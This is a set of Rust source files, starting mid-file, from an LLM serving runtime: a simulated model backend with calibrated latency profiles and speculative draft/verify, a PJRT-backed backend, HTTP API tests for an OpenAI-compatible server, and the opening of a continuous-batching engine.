            script,
            vocab: super::tokenizer::VOCAB,
            time_scale: 1.0,
        }
    }

    fn one_hot(&self, id: i32) -> Vec<f32> {
        let mut v = vec![0.0; self.vocab];
        v[id as usize] = 100.0;
        v
    }

    /// Where in the canned script a (possibly recomputed) sequence is.
    ///
    /// A preempted sequence re-prefills `prompt + generated-so-far`; the
    /// generated suffix is, by construction, a prefix of the script. The
    /// longest script prefix that is a suffix of `tokens` is therefore
    /// the resume point (0 for a fresh prompt — chat prompts end with
    /// "assistant: " or similar, never with the script's opening tokens).
    ///
    /// Known sim-only limitation: a *fresh* prompt that coincidentally
    /// ends with the script's opening bytes (e.g. `...count to 1` ends
    /// with `'1'` = script[0]) is mistaken for a resume and the stream
    /// starts mid-script. The backend cannot distinguish the two from
    /// token contents alone; a real weights-backed model has no such
    /// ambiguity, so we keep the prefill signature clean rather than
    /// thread a resume flag through every backend.
    fn resume_cursor(&self, tokens: &[i32]) -> usize {
        let max_k = self.script.len().min(tokens.len());
        (0..=max_k)
            .rev()
            .find(|&k| tokens.ends_with(&self.script[..k]))
            .unwrap_or(0)
    }
}

impl Backend for SimBackend {
    fn max_batch(&self) -> usize {
        self.profile.max_batch
    }

    fn max_seq(&self) -> usize {
        self.profile.max_seq
    }

    fn vocab(&self) -> usize {
        self.vocab
    }

    fn supports_chunked_prefill(&self) -> bool {
        true // the analytic model is billed per uncached token
    }

    fn prefill(&self, tokens: &[i32], cached_len: usize) -> Result<(Vec<f32>, SeqState)> {
        let uncached = tokens.len().saturating_sub(cached_len);
        let d = Duration::from_secs_f64(
            self.profile.prefill_time(uncached).as_secs_f64() * self.time_scale,
        );
        if !d.is_zero() {
            std::thread::sleep(d);
        }
        let cursor = self.resume_cursor(tokens);
        let next = self
            .script
            .get(cursor)
            .copied()
            .unwrap_or(super::tokenizer::EOS);
        let mut state = SeqState::empty();
        state.cursor = cursor + 1;
        Ok((self.one_hot(next), state))
    }

    fn decode(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        seqs: &mut [&mut SeqState],
    ) -> Result<Vec<Vec<f32>>> {
        let d = Duration::from_secs_f64(
            self.profile.step_time(tokens.len()).as_secs_f64() * self.time_scale,
        );
        if !d.is_zero() {
            std::thread::sleep(d);
        }
        Ok(seqs
            .iter_mut()
            .map(|s| {
                let id = self
                    .script
                    .get(s.cursor)
                    .copied()
                    .unwrap_or(super::tokenizer::EOS);
                s.cursor += 1;
                self.one_hot(id)
            })
            .collect())
    }

    fn draft(&self, seq: &SeqState, _history: &[i32], k: usize) -> Vec<i32> {
        // The modeled drafter guesses each script token with probability
        // `spec_accept`; a miss proposes a deterministic wrong token. The
        // cursor is not advanced — verify commits state.
        (0..k)
            .map(|j| {
                let pos = seq.cursor + j;
                let correct = self
                    .script
                    .get(pos)
                    .copied()
                    .unwrap_or(super::tokenizer::EOS);
                if draft_hits(pos as u64, self.profile.spec_accept) {
                    correct
                } else {
                    (correct + 1).rem_euclid(self.vocab as i32)
                }
            })
            .collect()
    }

    fn verify(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        drafts: &[Vec<i32>],
        seqs: &mut [&mut SeqState],
    ) -> Result<Vec<Vec<Vec<f32>>>> {
        // One target pass scores every draft position in parallel: the
        // analytic cost is one decode step plus the per-position
        // draft/verify overhead — the honest part of the speedup curve.
        let k_max = drafts.iter().map(|d| d.len()).max().unwrap_or(0);
        let d = Duration::from_secs_f64(
            self.profile.spec_step_time(tokens.len(), k_max).as_secs_f64() * self.time_scale,
        );
        if !d.is_zero() {
            std::thread::sleep(d);
        }
        Ok(seqs
            .iter_mut()
            .zip(drafts)
            .map(|(s, draft)| {
                // Longest agreeing prefix, then one corrected/bonus row.
                let mut rows = Vec::with_capacity(draft.len() + 1);
                for &proposed in draft {
                    let target = self
                        .script
                        .get(s.cursor)
                        .copied()
                        .unwrap_or(super::tokenizer::EOS);
                    if proposed != target {
                        break;
                    }
                    rows.push(self.one_hot(target));
                    s.cursor += 1;
                }
                let target = self
                    .script
                    .get(s.cursor)
                    .copied()
                    .unwrap_or(super::tokenizer::EOS);
                rows.push(self.one_hot(target));
                s.cursor += 1;
                rows
            })
            .collect())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn profiles_exist_for_paper_models() {
        for name in ["intel-neural-7b", "mixtral-8x7b", "qwen1.5-72b", "llama3-70b"] {
            let p = PerfProfile::by_name(name).unwrap();
            assert!(p.step_base_ms > 0.0);
        }
        assert!(PerfProfile::by_name("gpt-17").is_none());
    }

    #[test]
    fn step_time_grows_with_batch() {
        let p = PerfProfile::by_name("llama3-70b").unwrap();
        assert!(p.step_time(32) > p.step_time(1));
    }

    #[test]
    fn prefill_time_scales_with_uncached_tokens() {
        let p = PerfProfile::by_name("llama3-70b").unwrap();
        assert!(p.prefill_time(0).is_zero());
        assert!(p.prefill_time(1024) > p.prefill_time(PREFILL_REF_TOKENS));
        assert_eq!(
            p.prefill_time(PREFILL_REF_TOKENS),
            Duration::from_secs_f64(p.prefill_ms / 1e3)
        );
    }

    #[test]
    fn sim_backend_resumes_mid_script_after_recompute() {
        let mut sim = SimBackend::new(PerfProfile::by_name("intel-neural-7b").unwrap());
        sim.time_scale = 0.0;
        // A preempted sequence re-prefills prompt + the tokens it already
        // generated ("1 2 3"): the next emitted token must be the space
        // after "3", not the script's first token again.
        let mut history = crate::llm::tokenizer::encode("count");
        let generated = crate::llm::tokenizer::encode("1 2 3")[1..].to_vec();
        history.extend(&generated);
        let (logits, state) = sim.prefill(&history, 0).unwrap();
        assert_eq!(state.cursor, generated.len() + 1);
        let next = crate::llm::sampler::argmax(&logits);
        assert_eq!(crate::llm::tokenizer::decode_token(next), b" ".to_vec());
    }

    #[test]
    fn sim_backend_emits_the_canned_sentence() {
        let mut sim = SimBackend::new(PerfProfile::by_name("intel-neural-7b").unwrap());
        sim.time_scale = 0.0;
        let (logits, mut state) = sim.prefill(&[1, 2, 3], 0).unwrap();
        let mut ids = vec![crate::llm::sampler::argmax(&logits)];
        loop {
            let mut seqs = [&mut state];
            let l = sim.decode(&[*ids.last().unwrap()], &[0], &mut seqs).unwrap();
            let id = crate::llm::sampler::argmax(&l[0]);
            if id == super::super::tokenizer::EOS {
                break;
            }
            ids.push(id);
            assert!(ids.len() < 64, "runaway generation");
        }
        assert_eq!(super::super::tokenizer::decode(&ids), "1 2 3 4 5 6 7 8 9 10");
    }

    /// Drive a backend with the speculative draft/verify loop and return
    /// the greedy token ids (mirrors the engine's per-row application).
    fn run_speculative(sim: &SimBackend, k: usize) -> Vec<i32> {
        let (logits, mut state) = sim.prefill(&[1, 2, 3], 0).unwrap();
        let mut ids = vec![crate::llm::sampler::argmax(&logits)];
        let mut last = ids[0];
        'outer: loop {
            let drafts = vec![sim.draft(&state, &ids, k)];
            let mut seqs = [&mut state];
            let outcomes = sim.verify(&[last], &[0], &drafts, &mut seqs).unwrap();
            for row in &outcomes[0] {
                let id = crate::llm::sampler::argmax(row);
                if id == super::super::tokenizer::EOS {
                    break 'outer;
                }
                ids.push(id);
                last = id;
                assert!(ids.len() < 64, "runaway generation");
            }
        }
        ids
    }

    #[test]
    fn speculative_verify_reproduces_the_greedy_script_exactly() {
        for accept in [0.0, 0.3, 0.7, 1.0] {
            let mut profile = PerfProfile::by_name("intel-neural-7b").unwrap();
            profile.spec_accept = accept;
            let mut sim = SimBackend::new(profile);
            sim.time_scale = 0.0;
            let ids = run_speculative(&sim, 4);
            assert_eq!(
                super::super::tokenizer::decode(&ids),
                "1 2 3 4 5 6 7 8 9 10",
                "accept={accept}"
            );
        }
    }

    #[test]
    fn acceptance_zero_yields_exactly_one_row_per_verify() {
        let mut profile = PerfProfile::by_name("intel-neural-7b").unwrap();
        profile.spec_accept = 0.0;
        let mut sim = SimBackend::new(profile);
        sim.time_scale = 0.0;
        let (_, mut state) = sim.prefill(&[1, 2, 3], 0).unwrap();
        for _ in 0..10 {
            let drafts = vec![sim.draft(&state, &[], 4)];
            assert_eq!(drafts[0].len(), 4);
            let mut seqs = [&mut state];
            let rows = sim.verify(&[0], &[0], &drafts, &mut seqs).unwrap();
            assert_eq!(rows[0].len(), 1, "no draft should survive at acceptance 0");
        }
    }

    #[test]
    fn acceptance_one_accepts_every_draft() {
        let mut profile = PerfProfile::by_name("intel-neural-7b").unwrap();
        profile.spec_accept = 1.0;
        let mut sim = SimBackend::new(profile);
        sim.time_scale = 0.0;
        let (_, mut state) = sim.prefill(&[1, 2, 3], 0).unwrap();
        let drafts = vec![sim.draft(&state, &[], 4)];
        let mut seqs = [&mut state];
        let rows = sim.verify(&[0], &[0], &drafts, &mut seqs).unwrap();
        assert_eq!(rows[0].len(), 5, "k accepted + 1 bonus row");
    }

    #[test]
    fn default_verify_is_the_k1_fallback() {
        // A backend without a drafter (the XlaBackend shape): draft is
        // empty and verify degrades to exactly one decode row per seq.
        struct Plain;
        impl Backend for Plain {
            fn max_batch(&self) -> usize {
                1
            }
            fn max_seq(&self) -> usize {
                128
            }
            fn vocab(&self) -> usize {
                4
            }
            fn prefill(&self, _t: &[i32], _c: usize) -> Result<(Vec<f32>, SeqState)> {
                Ok((vec![1.0, 0.0, 0.0, 0.0], SeqState::empty()))
            }
            fn decode(
                &self,
                tokens: &[i32],
                _p: &[i32],
                _s: &mut [&mut SeqState],
            ) -> Result<Vec<Vec<f32>>> {
                Ok(tokens.iter().map(|_| vec![0.0, 1.0, 0.0, 0.0]).collect())
            }
        }
        let b = Plain;
        let mut state = SeqState::empty();
        assert!(b.draft(&state, &[], 8).is_empty());
        let mut seqs = [&mut state];
        let rows = b
            .verify(&[0], &[0], &[vec![1, 2, 3]], &mut seqs)
            .unwrap();
        assert_eq!(rows.len(), 1);
        assert_eq!(rows[0].len(), 1);
    }

    #[test]
    fn spec_step_time_charges_draft_overhead() {
        let p = PerfProfile::by_name("intel-neural-7b").unwrap();
        assert!(p.spec_step_time(8, 4) > p.step_time(8));
        let k0 = p.spec_step_time(8, 0).as_secs_f64();
        let plain = p.step_time(8).as_secs_f64();
        assert!((k0 - plain).abs() < 1e-9, "k=0 must cost a plain step");
    }
}
