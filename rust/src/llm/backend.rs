//! Model backends for the engine: the real PJRT-backed model and an
//! analytic performance model for the paper's H100-class LLMs.
//!
//! Both expose the same step-granular interface so the continuous
//! batching engine, sampler and OpenAI API are identical across them.

use std::sync::Arc;
use std::time::Duration;

use anyhow::Result;

use crate::runtime::{ModelExecutor, SeqKv};

/// Per-sequence state owned by the engine, opaque to callers.
pub struct SeqState {
    /// Real backend: the sequence's KV cache.
    pub kv: Option<SeqKv>,
    /// Simulated backend: script cursor.
    pub cursor: usize,
}

impl SeqState {
    fn empty() -> SeqState {
        SeqState {
            kv: None,
            cursor: 0,
        }
    }
}

/// A servable model.
pub trait Backend: Send + Sync {
    /// Maximum decode batch (bucket cap).
    fn max_batch(&self) -> usize;
    /// Context limit.
    fn max_seq(&self) -> usize;
    /// Vocabulary size (logit row width).
    fn vocab(&self) -> usize;

    /// Process a prompt; returns (first-token logits, sequence state).
    ///
    /// `cached_len` is the prefix whose KV is already resident (prefix
    /// cache hits plus previously prefilled chunks): a backend that can
    /// skip work only runs the kernel over `tokens[cached_len..]`. It is
    /// an optimization hint — recomputing the whole prompt is always
    /// correct. The engine guarantees `cached_len < tokens.len()`.
    fn prefill(&self, tokens: &[i32], cached_len: usize) -> Result<(Vec<f32>, SeqState)>;

    /// Does `prefill` actually skip the `cached_len` prefix? The engine
    /// only chunks long prompts when true — a backend that recomputes
    /// from token zero would otherwise do quadratic work across chunks.
    fn supports_chunked_prefill(&self) -> bool {
        false
    }

    /// One decode step for a batch of sequences. `tokens[i]` is appended
    /// to `seqs[i]` at `positions[i]`; returns one logits row each.
    fn decode(
        &self,
        tokens: &[i32],
        positions: &[i32],
        seqs: &mut [&mut SeqState],
    ) -> Result<Vec<Vec<f32>>>;
}

// ---------------------------------------------------------------------------
// Real backend: the AOT-compiled transformer through PJRT.
// ---------------------------------------------------------------------------

pub struct XlaBackend {
    executor: Arc<ModelExecutor>,
    model: String,
    max_batch: usize,
    max_seq: usize,
    vocab: usize,
}

impl XlaBackend {
    /// Load (compile) the model on the executor. Blocking: this is the
    /// paper's cold-start cost, gated by the scheduler's readiness probes.
    pub fn load(executor: Arc<ModelExecutor>, model: &str) -> Result<XlaBackend> {
        let info = executor.load(model)?;
        Ok(XlaBackend {
            executor,
            model: model.to_string(),
            max_batch: info.decode_buckets.last().copied().unwrap_or(1),
            max_seq: info.max_seq,
            vocab: info.vocab,
        })
    }
}

impl Backend for XlaBackend {
    fn max_batch(&self) -> usize {
        self.max_batch
    }

    fn max_seq(&self) -> usize {
        self.max_seq
    }

    fn vocab(&self) -> usize {
        self.vocab
    }

    fn prefill(&self, tokens: &[i32], _cached_len: usize) -> Result<(Vec<f32>, SeqState)> {
        // The PJRT prefill HLO is compiled for whole prompts; it recomputes
        // the cached prefix (correct, just not faster). The analytic
        // backends honor the hint — the paged-kernel lane can follow.
        let (logits, kv) = self.executor.prefill(&self.model, tokens)?;
        Ok((
            logits,
            SeqState {
                kv: Some(kv),
                cursor: 0,
            },
        ))
    }

    fn decode(
        &self,
        tokens: &[i32],
        positions: &[i32],
        seqs: &mut [&mut SeqState],
    ) -> Result<Vec<Vec<f32>>> {
        let kvs: Vec<SeqKv> = seqs
            .iter_mut()
            .map(|s| s.kv.take().expect("sequence without kv"))
            .collect();
        let (logits, kvs) =
            self.executor
                .decode(&self.model, tokens.to_vec(), positions.to_vec(), kvs)?;
        for (s, kv) in seqs.iter_mut().zip(kvs) {
            s.kv = Some(kv);
        }
        Ok(logits)
    }
}

// ---------------------------------------------------------------------------
// Simulated backend: paper-scale models as calibrated service times.
// ---------------------------------------------------------------------------

/// An analytic profile of a production model on the paper's H100 nodes.
/// We have no H100s (DESIGN.md §Substitutions); the profile reproduces the
/// *service time structure*: per-step latency grows mildly with batch
/// size, so saturation throughput ≈ `max_batch / step_time(max_batch)`.
#[derive(Debug, Clone)]
pub struct PerfProfile {
    pub name: String,
    /// Decode step latency at batch 1.
    pub step_base_ms: f64,
    /// Additional per-step cost per extra sequence in the batch.
    pub step_per_seq_ms: f64,
    /// Prompt processing latency per [`PREFILL_REF_TOKENS`] *uncached*
    /// tokens (the paper's typical sentence prompt), so prefix-cache hits
    /// and chunked prefill scale the cost linearly.
    pub prefill_ms: f64,
    pub max_batch: usize,
    pub max_seq: usize,
}

impl PerfProfile {
    /// Profiles calibrated against Table 2 (see EXPERIMENTS.md): sentence
    /// responses are ~30 tokens; saturation RPS ≈ max_batch /
    /// (30 · step_time(max_batch)).
    pub fn by_name(name: &str) -> Option<PerfProfile> {
        // Calibration (§Perf / EXPERIMENTS.md): the canned sentence is 21
        // tokens; saturation RPS ≈ max_batch / (21 · step(max_batch)).
        let (step_base_ms, step_per_seq_ms, prefill_ms, max_batch) = match name {
            // 27 RPS sentences → step(32) ≈ 56 ms
            "intel-neural-7b" => (40.0, 0.5, 10.0, 32),
            // 8 RPS sentences → step(16) ≈ 95 ms
            "mixtral-8x7b" => (80.0, 1.0, 120.0, 16),
            // 2 RPS sentences → step(8) ≈ 190 ms
            "qwen1.5-72b" => (150.0, 5.0, 350.0, 8),
            "llama3-70b" => (150.0, 5.0, 350.0, 8),
            _ => return None,
        };
        Some(PerfProfile {
            name: name.to_string(),
            step_base_ms,
            step_per_seq_ms,
            prefill_ms,
            max_batch,
            max_seq: 4096,
        })
    }

    /// Decode step latency for a given batch size.
    pub fn step_time(&self, batch: usize) -> Duration {
        Duration::from_secs_f64(
            (self.step_base_ms + self.step_per_seq_ms * batch.saturating_sub(1) as f64) / 1e3,
        )
    }

    /// Prompt-processing latency for `uncached` tokens of prefill work.
    pub fn prefill_time(&self, uncached: usize) -> Duration {
        Duration::from_secs_f64(
            self.prefill_ms / 1e3 * (uncached as f64 / PREFILL_REF_TOKENS as f64),
        )
    }
}

/// The prompt length `PerfProfile::prefill_ms` is calibrated against —
/// the paper's Table 2 sentence prompts are this order of magnitude.
pub const PREFILL_REF_TOKENS: usize = 32;

/// Simulated model: emits a canned sentence ("1 2 3 ... 10", mirroring the
/// paper's Table 2 prompt) with profile-calibrated latencies. Logits are
/// one-hot so the sampler path is exercised unchanged.
pub struct SimBackend {
    pub profile: PerfProfile,
    script: Vec<i32>,
    vocab: usize,
    /// Scale all sleeps (0 = no sleeping, for unit tests).
    pub time_scale: f64,
}

impl SimBackend {
    pub fn new(profile: PerfProfile) -> SimBackend {
        let text = "1 2 3 4 5 6 7 8 9 10";
        let mut script: Vec<i32> = super::tokenizer::encode(text)[1..].to_vec();
        script.push(super::tokenizer::EOS);
        SimBackend {
            profile,
            script,
            vocab: super::tokenizer::VOCAB,
            time_scale: 1.0,
        }
    }

    fn one_hot(&self, id: i32) -> Vec<f32> {
        let mut v = vec![0.0; self.vocab];
        v[id as usize] = 100.0;
        v
    }

    /// Where in the canned script a (possibly recomputed) sequence is.
    ///
    /// A preempted sequence re-prefills `prompt + generated-so-far`; the
    /// generated suffix is, by construction, a prefix of the script. The
    /// longest script prefix that is a suffix of `tokens` is therefore
    /// the resume point (0 for a fresh prompt — chat prompts end with
    /// "assistant: " or similar, never with the script's opening tokens).
    ///
    /// Known sim-only limitation: a *fresh* prompt that coincidentally
    /// ends with the script's opening bytes (e.g. `...count to 1` ends
    /// with `'1'` = script[0]) is mistaken for a resume and the stream
    /// starts mid-script. The backend cannot distinguish the two from
    /// token contents alone; a real weights-backed model has no such
    /// ambiguity, so we keep the prefill signature clean rather than
    /// thread a resume flag through every backend.
    fn resume_cursor(&self, tokens: &[i32]) -> usize {
        let max_k = self.script.len().min(tokens.len());
        (0..=max_k)
            .rev()
            .find(|&k| tokens.ends_with(&self.script[..k]))
            .unwrap_or(0)
    }
}

impl Backend for SimBackend {
    fn max_batch(&self) -> usize {
        self.profile.max_batch
    }

    fn max_seq(&self) -> usize {
        self.profile.max_seq
    }

    fn vocab(&self) -> usize {
        self.vocab
    }

    fn supports_chunked_prefill(&self) -> bool {
        true // the analytic model is billed per uncached token
    }

    fn prefill(&self, tokens: &[i32], cached_len: usize) -> Result<(Vec<f32>, SeqState)> {
        let uncached = tokens.len().saturating_sub(cached_len);
        let d = Duration::from_secs_f64(
            self.profile.prefill_time(uncached).as_secs_f64() * self.time_scale,
        );
        if !d.is_zero() {
            std::thread::sleep(d);
        }
        let cursor = self.resume_cursor(tokens);
        let next = self
            .script
            .get(cursor)
            .copied()
            .unwrap_or(super::tokenizer::EOS);
        let mut state = SeqState::empty();
        state.cursor = cursor + 1;
        Ok((self.one_hot(next), state))
    }

    fn decode(
        &self,
        tokens: &[i32],
        _positions: &[i32],
        seqs: &mut [&mut SeqState],
    ) -> Result<Vec<Vec<f32>>> {
        let d = Duration::from_secs_f64(
            self.profile.step_time(tokens.len()).as_secs_f64() * self.time_scale,
        );
        if !d.is_zero() {
            std::thread::sleep(d);
        }
        Ok(seqs
            .iter_mut()
            .map(|s| {
                let id = self
                    .script
                    .get(s.cursor)
                    .copied()
                    .unwrap_or(super::tokenizer::EOS);
                s.cursor += 1;
                self.one_hot(id)
            })
            .collect())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn profiles_exist_for_paper_models() {
        for name in ["intel-neural-7b", "mixtral-8x7b", "qwen1.5-72b", "llama3-70b"] {
            let p = PerfProfile::by_name(name).unwrap();
            assert!(p.step_base_ms > 0.0);
        }
        assert!(PerfProfile::by_name("gpt-17").is_none());
    }

    #[test]
    fn step_time_grows_with_batch() {
        let p = PerfProfile::by_name("llama3-70b").unwrap();
        assert!(p.step_time(32) > p.step_time(1));
    }

    #[test]
    fn prefill_time_scales_with_uncached_tokens() {
        let p = PerfProfile::by_name("llama3-70b").unwrap();
        assert!(p.prefill_time(0).is_zero());
        assert!(p.prefill_time(1024) > p.prefill_time(PREFILL_REF_TOKENS));
        assert_eq!(
            p.prefill_time(PREFILL_REF_TOKENS),
            Duration::from_secs_f64(p.prefill_ms / 1e3)
        );
    }

    #[test]
    fn sim_backend_resumes_mid_script_after_recompute() {
        let mut sim = SimBackend::new(PerfProfile::by_name("intel-neural-7b").unwrap());
        sim.time_scale = 0.0;
        // A preempted sequence re-prefills prompt + the tokens it already
        // generated ("1 2 3"): the next emitted token must be the space
        // after "3", not the script's first token again.
        let mut history = crate::llm::tokenizer::encode("count");
        let generated = crate::llm::tokenizer::encode("1 2 3")[1..].to_vec();
        history.extend(&generated);
        let (logits, state) = sim.prefill(&history, 0).unwrap();
        assert_eq!(state.cursor, generated.len() + 1);
        let next = crate::llm::sampler::argmax(&logits);
        assert_eq!(crate::llm::tokenizer::decode_token(next), b" ".to_vec());
    }

    #[test]
    fn sim_backend_emits_the_canned_sentence() {
        let mut sim = SimBackend::new(PerfProfile::by_name("intel-neural-7b").unwrap());
        sim.time_scale = 0.0;
        let (logits, mut state) = sim.prefill(&[1, 2, 3], 0).unwrap();
        let mut ids = vec![crate::llm::sampler::argmax(&logits)];
        loop {
            let mut seqs = [&mut state];
            let l = sim.decode(&[*ids.last().unwrap()], &[0], &mut seqs).unwrap();
            let id = crate::llm::sampler::argmax(&l[0]);
            if id == super::super::tokenizer::EOS {
                break;
            }
            ids.push(id);
            assert!(ids.len() < 64, "runaway generation");
        }
        assert_eq!(super::super::tokenizer::decode(&ids), "1 2 3 4 5 6 7 8 9 10");
    }
}
