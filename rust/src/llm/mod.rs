//! The LLM serving runtime — the paper's vLLM (§5.7), rebuilt:
//!
//! * [`tokenizer`] — byte-level tokenizer matching the L2 vocab.
//! * [`sampler`] — greedy / temperature / top-k with per-request seeds.
//! * [`kv_cache`] — prefix-aware paged KV block manager (vLLM's
//!   PagedAttention bookkeeping + refcounted content-hashed block
//!   sharing, kept at the coordinator level per the Trainium
//!   adaptation).
//! * [`backend`] — the PJRT-backed model and the calibrated analytic
//!   profiles for the paper's H100-class models.
//! * [`engine`] — continuous batching loop.
//! * [`server`] — OpenAI-compatible HTTP API (chat + completions +
//!   streaming), `/health` for readiness probes, `/metrics`.

pub mod backend;
pub mod engine;
pub mod kv_cache;
pub mod sampler;
pub mod server;
pub mod tokenizer;

pub use backend::{Backend, PerfProfile, SimBackend, XlaBackend};
pub use engine::{
    Engine, EngineConfig, EngineTuning, FinishReason, GenEvent, GenRequest, SpeculativeConfig,
};
pub use kv_cache::{chain_hash, prefix_route_hash, AdmitGrant, BlockManager, KvError};
pub use sampler::{Sampler, SamplingParams};
pub use server::LlmServer;

pub use crate::util::fairness::{FairnessConfig, Priority};

#[cfg(test)]
mod tests {
    use super::*;
    use crate::util::http::{Client, Request};
    use crate::util::json::Json;
    use std::sync::Arc;

    fn sim_server() -> LlmServer {
        let mut backend = SimBackend::new(PerfProfile::by_name("intel-neural-7b").unwrap());
        backend.time_scale = 0.0; // no sleeping in unit tests
        LlmServer::start("intel-neural-7b", Arc::new(backend), 4).unwrap()
    }

    #[test]
    fn health_models_metrics() {
        let server = sim_server();
        let mut client = Client::new(&server.url());
        assert_eq!(client.get("/health").unwrap().status, 200);
        let models = client.get("/v1/models").unwrap().json().unwrap();
        assert_eq!(
            models.get("data").unwrap().as_arr().unwrap()[0].str_field("id"),
            Some("intel-neural-7b")
        );
        let metrics = client.get("/metrics").unwrap();
        assert!(metrics.body_str().contains("llm_requests_total"));
        server.stop();
    }

    #[test]
    fn readiness_gate() {
        let server = sim_server();
        server.set_ready(false);
        let mut client = Client::new(&server.url());
        assert_eq!(client.get("/health").unwrap().status, 503);
        let resp = client
            .post_json(
                "/v1/chat/completions",
                &Json::obj().set("messages", Vec::<Json>::new()),
            )
            .unwrap();
        assert_eq!(resp.status, 503);
        server.set_ready(true);
        assert_eq!(client.get("/health").unwrap().status, 200);
        server.stop();
    }

    #[test]
    fn chat_completion_roundtrip() {
        let server = sim_server();
        let mut client = Client::new(&server.url());
        let body = Json::obj()
            .set("model", "intel-neural-7b")
            .set(
                "messages",
                vec![Json::obj().set("role", "user").set("content", "count from 1 to 10")],
            )
            .set("max_tokens", 64u64);
        let resp = client.post_json("/v1/chat/completions", &body).unwrap();
        assert_eq!(resp.status, 200, "{}", resp.body_str());
        let v = resp.json().unwrap();
        let msg = v.get("choices").unwrap().as_arr().unwrap()[0]
            .get("message")
            .unwrap();
        assert_eq!(msg.str_field("content"), Some("1 2 3 4 5 6 7 8 9 10"));
        let finish = v.get("choices").unwrap().as_arr().unwrap()[0].str_field("finish_reason");
        assert_eq!(finish, Some("stop"));
        server.stop();
    }

    #[test]
    fn streaming_chat_yields_token_chunks() {
        let server = sim_server();
        let mut client = Client::new(&server.url());
        let body = Json::obj()
            .set(
                "messages",
                vec![Json::obj().set("role", "user").set("content", "count")],
            )
            .set("stream", true)
            .set("max_tokens", 64u64);
        let req = Request::new("POST", "/v1/chat/completions")
            .with_header("content-type", "application/json")
            .with_body(body.to_string().into_bytes());
        let mut sse = crate::util::http::SseParser::new();
        let mut events = Vec::new();
        let resp = client
            .send_streaming(&req, |chunk| {
                events.extend(sse.push(chunk));
            })
            .unwrap();
        assert_eq!(resp.status, 200);
        assert!(events.len() > 5, "expected many SSE events, got {}", events.len());
        assert_eq!(events.last().map(String::as_str), Some("[DONE]"));
        // Reassemble the text from deltas.
        let mut text = String::new();
        for e in &events[..events.len() - 1] {
            if let Ok(v) = crate::util::json::parse(e) {
                if let Some(choices) = v.get("choices").and_then(Json::as_arr) {
                    if let Some(delta) = choices[0].get("delta") {
                        text.push_str(delta.str_field("content").unwrap_or(""));
                    }
                }
            }
        }
        assert_eq!(text, "1 2 3 4 5 6 7 8 9 10");
        server.stop();
    }

    #[test]
    fn max_tokens_truncates() {
        let server = sim_server();
        let mut client = Client::new(&server.url());
        let body = Json::obj()
            .set(
                "messages",
                vec![Json::obj().set("role", "user").set("content", "count")],
            )
            .set("max_tokens", 3u64);
        let v = client
            .post_json("/v1/chat/completions", &body)
            .unwrap()
            .json()
            .unwrap();
        let choice = &v.get("choices").unwrap().as_arr().unwrap()[0];
        assert_eq!(choice.str_field("finish_reason"), Some("length"));
        let content = choice.get("message").unwrap().str_field("content").unwrap();
        assert_eq!(content.len(), 3, "3 byte-tokens: {content:?}");
        server.stop();
    }

    #[test]
    fn malformed_requests_rejected() {
        let server = sim_server();
        let mut client = Client::new(&server.url());
        let resp = client
            .send(
                &Request::new("POST", "/v1/chat/completions").with_body(b"not json".to_vec()),
            )
            .unwrap();
        assert_eq!(resp.status, 400);
        let resp = client
            .post_json("/v1/chat/completions", &Json::obj().set("foo", 1u64))
            .unwrap();
        assert_eq!(resp.status, 400);
        let resp = client
            .post_json("/v1/completions", &Json::obj().set("foo", 1u64))
            .unwrap();
        assert_eq!(resp.status, 400);
        server.stop();
    }

    #[test]
    fn concurrent_requests_batch_together() {
        // Real latency this time (scaled down) so requests overlap.
        let mut backend = SimBackend::new(PerfProfile::by_name("intel-neural-7b").unwrap());
        backend.time_scale = 0.05;
        let server = LlmServer::start("neural", Arc::new(backend), 8).unwrap();
        let url = server.url();
        let mut handles = Vec::new();
        for _ in 0..8 {
            let url = url.clone();
            handles.push(std::thread::spawn(move || {
                let mut client = Client::new(&url);
                let body = Json::obj()
                    .set(
                        "messages",
                        vec![Json::obj().set("role", "user").set("content", "count")],
                    )
                    .set("max_tokens", 64u64);
                let v = client
                    .post_json("/v1/chat/completions", &body)
                    .unwrap()
                    .json()
                    .unwrap();
                let content = v.get("choices").unwrap().as_arr().unwrap()[0]
                    .get("message")
                    .unwrap()
                    .str_field("content")
                    .unwrap()
                    .to_string();
                assert_eq!(content, "1 2 3 4 5 6 7 8 9 10");
            }));
        }
        for h in handles {
            h.join().unwrap();
        }
        // Batching actually happened: avg batch occupancy above 1.
        let steps = server.engine.stats.decode_steps.load(std::sync::atomic::Ordering::Relaxed);
        let batched = server
            .engine
            .stats
            .batched_seqs
            .load(std::sync::atomic::Ordering::Relaxed);
        assert!(steps > 0);
        let avg = batched as f64 / steps as f64;
        assert!(avg > 1.2, "no batching observed: avg={avg}");
        server.stop();
    }

    #[test]
    fn completions_endpoint_works() {
        let server = sim_server();
        let mut client = Client::new(&server.url());
        let v = client
            .post_json(
                "/v1/completions",
                &Json::obj().set("prompt", "count:").set("max_tokens", 64u64),
            )
            .unwrap()
            .json()
            .unwrap();
        let choice = &v.get("choices").unwrap().as_arr().unwrap()[0];
        assert_eq!(choice.str_field("text"), Some("1 2 3 4 5 6 7 8 9 10"));
        server.stop();
    }
}
