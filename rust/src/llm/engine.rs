//! The continuous-batching inference engine (vLLM's core loop, Kwo+23).
//!
//! One engine per served model instance. A dedicated engine thread runs
//! the schedule-prefill-decode loop:
//!
//! ```text
//!   loop {
//!     evict cancelled sequences (free their KV blocks);
//!     admit waiting requests (KV block budget + batch bucket allow);
//!     prefill at most one admitted prompt;            // prioritize decode
//!     decode one step over all running sequences;     // batched
//!     sample, stream tokens, retire finished;
//!   }
//! ```
//!
//! Sequences join and leave the batch between steps — continuous
//! batching, not static gang batching.
//!
//! Streaming discipline: token delivery never blocks the loop. Each
//! sequence's event channel is bounded; when a consumer stalls, tokens
//! queue in a per-sequence backlog and the [`StallPolicy`] decides whether
//! the stream is severed or the backlog dropped. A client disconnect —
//! observed either as a channel hangup or via the request's
//! [`CancelToken`] — evicts the sequence at the next decode step and
//! returns its KV blocks to the budget.

use std::collections::VecDeque;
use std::sync::atomic::{AtomicBool, AtomicU64, Ordering};
use std::sync::mpsc::{Receiver, Sender, SyncSender, TrySendError};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use super::backend::{Backend, SeqState};
use super::kv_cache::BlockManager;
use super::sampler::{Sampler, SamplingParams};
use super::tokenizer;
use crate::util::hist::Histogram;
use crate::util::streaming::{CancelToken, StallPolicy};

/// A generation request submitted to the engine.
